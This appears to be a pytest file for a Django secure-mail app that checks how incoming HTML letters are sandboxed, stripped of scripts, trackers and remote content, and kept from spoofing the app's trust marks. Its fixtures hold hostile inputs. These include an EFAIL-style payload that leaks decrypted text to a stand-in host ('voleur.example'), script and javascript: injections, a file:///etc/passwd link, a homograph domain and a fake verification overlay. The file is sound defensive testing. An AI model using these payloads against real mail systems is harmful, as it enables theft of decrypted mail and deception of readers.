"""The document that shows a letter's HTML: who gets it, what it may do, what of the letter is in it."""

import base64

import pytest
from django.test import Client

from sceau.core import clock
from sceau.envelopes import receiving
from sceau.envelopes.models import Copy
from sceau.web import plain
from sceau.web.views import frame
from tests import people
from tests.envelopes import desk
from tests.envelopes.test_html import PNG
from tests.people import Member, sign_in

pytestmark = pytest.mark.django_db

HEAD = "From: Ami <ami@exemple.fr>\r\nTo: claire.vasseur@tilleuls.example\r\nSubject: Bonjour\r\nMIME-Version: 1.0\r\n"


def brought(member: Member, body: str) -> str:
    """The path of a mail that she imports; `body` begins with the rest of its header."""
    raw = (HEAD + body.replace("\r\n", "\n").replace("\n", "\r\n")).encode()
    envelope = receiving.place(raw, by=people.actor(member), folder=None, at=clock.now())
    return f"/enveloppes/{Copy.objects.get(envelope=envelope).id}"


def html(text: str) -> str:
    return f"Content-Type: text/html; charset=utf-8\n\n{text}"


@pytest.fixture
def browser(claire: Member) -> Client:
    return sign_in(claire)


@pytest.mark.attack(15)
@pytest.mark.attack(17)
@pytest.mark.attack(29)
def test_it_has_a_policy_of_its_own_in_which_nothing_runs_or_leaves(browser: Client, claire: Member) -> None:
    answer = browser.get(f"{brought(claire, html('<p>Bonjour <script>alert(1)</script>'))}/lettre.html")
    policy = dict(part.strip().partition(" ")[::2] for part in answer["Content-Security-Policy"].split(";"))
    assert policy == {
        "sandbox": "allow-same-origin allow-popups allow-popups-to-escape-sandbox",
        "default-src": "'none'",
        "img-src": "data:",
        "style-src": "'unsafe-inline'",
        "form-action": "'none'",
        "base-uri": "'none'",
        "frame-ancestors": "'self'",
    }
    assert answer["Cache-Control"] == "no-store"
    assert answer["Referrer-Policy"] == "no-referrer"
    assert answer["X-DNS-Prefetch-Control"] == "off"
    assert answer["Content-Type"] == "text/html; charset=utf-8"
    assert "script" not in answer.getvalue().decode()


def test_the_page_holds_the_frame_and_nothing_of_the_html(browser: Client, claire: Member) -> None:
    place = brought(claire, html('<p id="x">Bonjour <b>à vous</b></p>'))
    page = browser.get(place).content.decode()
    assert f'src="{place}/lettre.html"' in page
    assert f'sandbox="{frame.SANDBOX}"' in page
    assert "<b>à vous</b>" not in page
    text = browser.get(f"{place}?texte").content.decode()
    assert "<iframe" not in text
    assert "Bonjour à vous" in text


def test_pictures_of_the_letter_itself_are_shown_and_no_other_letter_s(browser: Client, claire: Member) -> None:
    related = (
        'Content-Type: multipart/related; boundary="r"\n\n--r\nContent-Type: text/html; charset=utf-8\n\n'
        '<img src="cid:logo"><img src="cid:elsewhere"><img src="https://tracker.example/a.png" alt="Plan">\n--r\n'
        "Content-Type: image/svg+xml\nContent-ID: <logo>\nContent-Transfer-Encoding: base64\n\n"
        f"{base64.b64encode(PNG).decode()}\n--r--\n"
    )
    shown = browser.get(f"{brought(claire, related)}/lettre.html").getvalue().decode()
    assert f"data:image/png;base64,{base64.b64encode(PNG).decode()}" in shown
    assert '<span class="missing"></span><span class="remote">Plan</span>' in shown
    assert "tracker" not in shown


@pytest.mark.attack(15)
def test_parts_are_never_joined_in_one_document(browser: Client, claire: Member) -> None:
    """EFAIL's direct way: an attribute left open in one part would carry the next one, decrypted, to a stranger."""
    mixed = (
        'Content-Type: multipart/mixed; boundary="m"\n\n'
        '--m\nContent-Type: text/html\n\n<p>Lisez</p><img src="https://voleur.example/?\n'
        "--m\nContent-Type: text/html\n\n<p>SECRET</p>\n"
        '--m\nContent-Type: text/html\n\n">\n--m--\n'
    )
    shown = browser.get(f"{brought(claire, mixed)}/lettre.html").getvalue().decode()
    assert "voleur" not in shown
    assert "Lisez" in shown
    assert "SECRET" not in shown.partition("Lisez")[0]


@pytest.mark.attack(16)
def test_our_marks_stand_outside_whatever_the_letter_draws(browser: Client, claire: Member) -> None:
    fake = (
        '<div style="position:fixed;top:0;left:0;z-index:99999"><h1>Sceau intact</h1>Dr Faux, identité vérifiée</div>'
    )
    place = brought(claire, html(fake))
    shown, page = browser.get(f"{place}/lettre.html").getvalue().decode(), browser.get(place).content.decode()
    assert "Dr Faux" in shown
    assert "position:" not in shown.partition("</style>")[2]
    assert "Dr Faux" not in page


@pytest.mark.attack(18)
def test_a_letter_that_is_opened_tells_nobody(browser: Client, claire: Member) -> None:
    tracked = (
        '<link rel="dns-prefetch" href="//t.example"><img src="https://t.example/p.gif" width="1" height="1">Bonjour'
    )
    shown = browser.get(f"{brought(claire, html(tracked))}/lettre.html").getvalue().decode()
    assert "t.example" not in shown
    assert "Bonjour" in shown


def test_a_letter_beyond_all_measure_is_shown_as_words(browser: Client, claire: Member) -> None:
    shown = (
        browser.get(f"{brought(claire, html('<b>' * 30_000 + 'Bonjour & bonsoir'))}/lettre.html").getvalue().decode()
    )
    assert "Bonjour &amp; bonsoir" in shown
    assert "<b>" not in shown.partition("<body")[2]


def test_white_paper_is_for_letters_that_chose_their_colours(browser: Client, claire: Member) -> None:
    claire.person.theme = "dark"
    claire.person.save()
    plain_one = browser.get(f"{brought(claire, html('<p>Bonjour</p>'))}/lettre.html").getvalue().decode()
    coloured = browser.get(f"{brought(claire, html('<p style=color:red>Bonjour</p>'))}/lettre.html").getvalue().decode()
    assert 'data-theme="dark"' in plain_one
    assert "background: transparent" in plain_one
    assert "background: #fff" in coloured


@pytest.mark.attack(28)
def test_it_is_for_nobody_else(claire: Member, marc: Member) -> None:
    place = brought(claire, html("<p>Bonjour</p>"))
    assert sign_in(marc).get(f"{place}/lettre.html").status_code == 404
    assert Client().get(f"{place}/lettre.html").status_code == 303


@pytest.mark.attack(25)
def test_a_head_request_takes_nothing(browser: Client, claire: Member) -> None:
    assert browser.head(f"{brought(claire, html('<p>Bonjour</p>'))}/lettre.html").status_code == 405


def test_a_letter_without_html_has_no_such_document(claire: Member, marc: Member) -> None:
    own = desk.own_copy(desk.send(people.actor(claire), str(marc.address)), people.actor(claire))
    assert sign_in(claire).get(f"/enveloppes/{own.id}/lettre.html").status_code == 404


class TestPlainText:
    def test_links_can_be_pressed_and_lead_where_they_say(self) -> None:
        (block,) = plain.blocks("Voir https://www.has-sante.fr/upload (avis), écrire à a@b.fr.")
        assert [(piece.text, piece.href) for piece in block.pieces if piece.href] == [
            ("https://www.has-sante.fr/upload", "https://www.has-sante.fr/upload"),
            ("a@b.fr", "mailto:a@b.fr"),
        ]
        assert "".join(piece.text for piece in block.pieces).endswith("(avis), écrire à a@b.fr.")

    @pytest.mark.parametrize("text", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "https://", "@"])
    def test_what_is_no_address_of_the_web_is_text(self, text: str) -> None:
        (block,) = plain.blocks(text)
        assert [piece.href for piece in block.pieces] == [""]

    @pytest.mark.attack(14)
    def test_a_host_in_other_letters_says_its_true_name(self) -> None:
        (block,) = plain.blocks("https://mѕsante.fr/")
        assert [piece.text for piece in block.pieces][1] == " (xn--msante-ivf.fr)"

    def test_a_bracket_that_the_address_opened_stays_in_it(self) -> None:
        (block,) = plain.blocks("(https://fr.wikipedia.org/wiki/Rein_(anatomie))")
        assert block.pieces[1].text == "https://fr.wikipedia.org/wiki/Rein_(anatomie)"

    def test_a_long_quotation_is_folded_and_a_short_one_is_not(self) -> None:
        blocks = plain.blocks("Oui.\n> un\n> deux\nNon.\n" + "> x\n" * 12 + "Fin.")
        assert [(block.quoted, block.folded, block.lines) for block in blocks] == [
            (False, False, 1),
            (True, False, 2),
            (False, False, 1),
            (True, True, 12),
            (False, False, 1),
        ]
        assert "\n".join("".join(p.text for p in b.pieces) for b in blocks).endswith("> x\nFin.")
